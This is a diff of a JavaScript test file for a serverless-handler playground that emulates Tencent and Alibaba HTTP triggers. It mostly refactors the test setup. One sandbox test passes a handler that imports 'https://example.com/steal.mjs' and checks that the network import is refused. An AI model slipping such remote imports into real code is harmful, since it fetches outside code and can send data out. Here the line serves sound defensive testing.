@@ -2,18 +2,9 @@
 // triggers on the current event; no network, a time limit, and the gateways' answers.
 import test from 'node:test';
 import assert from 'node:assert/strict';
-import path from 'node:path';
-import { root, fixture, startServer, launch, openPage, paste, screenshot, PHONE } from './playground-support.mjs';
+import { root, fixture, usePlayground, openPage, paste, screenshot, PHONE } from './playground-support.mjs';
 
-let server, base, browser;
-test.before(async () => {
-  ({ server, base } = await startServer(['--root', path.join(root, 'www')]));
-  browser = await launch();
-});
-test.after(async () => {
-  await browser?.close();
-  server?.kill();
-});
+const pg = usePlayground();
 
 const TRIGGERS = ['aliyun-apigw', 'aliyun-http', 'tencent-apigw', 'tencent-url'];
 const card = (page, format) => page.locator(`#run-cards article[data-format="${format}"]`);
@@ -34,7 +25,7 @@ async function runHandler(page, { event, source, format, timeoutMs }) {
 }
 
 test('an SCF handler from Tencent\'s docs, on the current event, behind all four HTTP triggers', async () => {
-  const { page, problems, context } = await openPage(browser, `${base}/`);
+  const { page, problems, context } = await openPage(pg.browser, `${pg.base}/`);
   await runHandler(page, {
     event: fixture('aliyun-apigw/seed-post-json.json'),
     format: 'tencent-apigw',
@@ -70,7 +61,7 @@ exports.main_handler = async (event, context) => {
 });
 
 test('an FC handler gets a Buffer and a callback; a header FC drops is named', async () => {
-  const { page, problems, context } = await openPage(browser, `${base}/`, PHONE);
+  const { page, problems, context } = await openPage(pg.browser, `${pg.base}/`, PHONE);
   await runHandler(page, {
     event: fixture('tencent-apigw/seed-post.json'),
     format: 'aliyun-apigw',
@@ -95,7 +86,7 @@ test('an FC handler gets a Buffer and a callback; a header FC drops is named', a
 });
 
 test('an SCF handler returning what only Alibaba accepts: Tencent\'s gateway answers 403 and says why', async () => {
-  const { page, problems, context } = await openPage(browser, `${base}/`);
+  const { page, problems, context } = await openPage(pg.browser, `${pg.base}/`);
   await runHandler(page, {
     event: fixture('tencent-apigw/seed-post.json'),
     format: 'tencent-apigw',
@@ -113,7 +104,7 @@ test('an SCF handler returning what only Alibaba accepts: Tencent\'s gateway ans
 });
 
 test('no network, and a time limit whatever the handler does', async () => {
-  const { page, problems, context } = await openPage(browser, `${base}/`);
+  const { page, problems, context } = await openPage(pg.browser, `${pg.base}/`);
   // A remote import is refused by the page's policy, which the worker inherits.
   await runHandler(page, { event: fixture('tencent-apigw/seed-post.json'), format: 'tencent-url', source: 'import "https://example.com/steal.mjs";\nexport const main_handler = async () => ({ statusCode: 200, body: "sent" });' });
   assert.match(await page.textContent('#run-cards .error-box'), /The handler did not run/);
